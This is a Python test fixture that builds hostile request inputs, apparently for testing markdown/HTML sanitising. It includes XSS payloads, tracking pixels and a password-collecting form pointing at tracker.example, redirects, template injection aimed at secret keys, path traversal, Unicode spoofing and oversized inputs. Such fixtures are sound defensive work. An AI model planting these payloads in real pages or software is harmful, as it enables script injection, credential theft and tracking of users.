"""Hostile or careless content of requests; each entry is a whole question."""

from typing import Any

BOOM = "window.hacked = true; alert(1)"
FAR = "https://tracker.example"
WORD = "W" * 2_000

TEXTS: dict[str, str] = {
    "script": f"<script>{BOOM}</script>",
    "script in capitals": f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    "broken script": f"<scr<script>ipt>{BOOM}</scr</script>ipt>",
    "image that fails": f'<img src=x onerror="{BOOM}">',
    "tracker": f"![]({FAR}/pixel.gif?who=me)",
    "tracker by reference": f"![a][1]\n\n[1]: {FAR}/pixel.png",
    "tracker in html": f'<img src="{FAR}/pixel.gif" width=1 height=1>',
    "image in a link": f"[![a]({FAR}/a.png)]({FAR}/)",
    "svg": f"<svg onload='{BOOM}'><use href='{FAR}/#x'/></svg>",
    "svg as an image": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "javascript link": f"[press](javascript:{BOOM.replace(' ', '')})",
    "javascript with a tab": "[press](java\tscript:alert(1))",
    "javascript in entities": "[press](&#106;avascript&colon;alert(1))",
    "vbscript": "[press](vbscript:msgbox(1))",
    "data link": "[press](data:text/html,<script>alert(1)</script>)",
    "autolink": "<javascript:alert(1)>",
    "frame": f"<iframe src='{FAR}' srcdoc='<script>{BOOM}</script>'></iframe>",
    "object": f"<object data='{FAR}/x.swf'></object><embed src='{FAR}/x'>",
    "style": f"<style>@import '{FAR}/x.css'; body {{ display: none }}</style>",
    "style attribute": f"<p style='background: url({FAR}/x); position: fixed; inset: 0'>over</p>",
    "form": f"<form action='{FAR}'><input name=password><button>Send answer</button></form>",
    "form's end": f"</form></main></div><form action='{FAR}'><button>Send</button>",
    "base": f"<base href='{FAR}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}'>",
    "comment": "<!-- --!> <img src=x onerror=alert(1)> -->",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "{{ settings.SECRET_KEY }} {% load x %} ${alert(1)} <%= 1 %>",
    "quotes": "\"'><img src=x onerror=alert(1)>",
    "code fence": "```html\" onmouseover=alert(1) x=\"\n<script>alert(1)</script>\n```",
    "code of an odd language": "```../../etc/passwd\nx\n```",
    "title of a link": f"[a]({FAR} \"' onmouseover='alert(1)\")",
    "long word": WORD,
    "long word in bold": f"**{'B' * 1_990}**",
    "long link": f"[{'L' * 900}]({FAR}/{'l' * 900})",
    "long code": f"```\n{'C' * 1_980}\n```",
    "wide table": "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n|" + "wide|" * 60,
    "deep quotes": ">" * 200 + " deep",
    "deep lists": "\n".join("  " * n + "- a" for n in range(40)),
    "headings": "# One\n# Two\n" * 50,
    "right to left": "\u202eevil txt.exe\u202c and \u2067embedded\u2069",
    "right to left without end": "\u202e\u202e\u202eRefund \u202dnothing",
    "hidden marks": "pay\u200bpal\u2060.com\ufeff\u00ad",
    "zalgo": "Z" + "\u0300\u0301\u0302\u0303\u0489" * 200 + " done",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 60,
    "many lines": "a\n\n" * 600,
    "controls": "a\u0007b\u001bc\u0085d\u2028e",
    "blank": "\u2800\u3164\u00a0",
}  # fmt: skip
_EVIL = f'"><img src=x onerror="{BOOM}">'
CONTEXTS: dict[str, Any] = {
    "html in keys": {_EVIL: {_EVIL: [_EVIL]}},
    "long key": {WORD: WORD},
    "deep": {"a": [[[[[[[[[[[[[[[[[[[["end"]]]]]]]]]]]]]]]]]]]]},
    "many": {f"key {n}": n for n in range(300)},
    "odd keys": {"": "", "__proto__": {"x": 1}, "constructor": None, "\u202erevo": True},
    "numbers": {"big": 10**300, "small": 1e-300, "float": 0.1, "negative": -1},
}
OPTIONS: dict[str, list[Any]] = {
    "html": [_EVIL, {"value": _EVIL + "2", "label": f"<script>{BOOM}</script>"}],
    "long": ["O" * 2_000, {"value": "short", "label": "L" * 2_000}],
    "alike": ["yes", "yes\u200b", "\u202eon", " no "],
    "emoji": ["👩‍👩‍👧‍👦" * 40, "🏳️‍🌈"],
    "a hundred": [{"value": f"v{n}", "label": f"{n} {'word ' * 30}"} for n in range(100)],
}


def questions() -> dict[str, dict[str, Any]]:
    """What is to be created for each, by name."""
    texts = {f"text, {name}": {"request_text": text} for name, text in TEXTS.items()}
    contexts = {f"context, {name}": {"context": value} for name, value in CONTEXTS.items()}
    options = {
        f"options, {name}": {
            "response_config": {"options": listed},
            "default_response": listed[0],
            "request_text": f"[x]: {FAR}",
        }
        for name, listed in OPTIONS.items()
    }
    return {**texts, **contexts, **options}
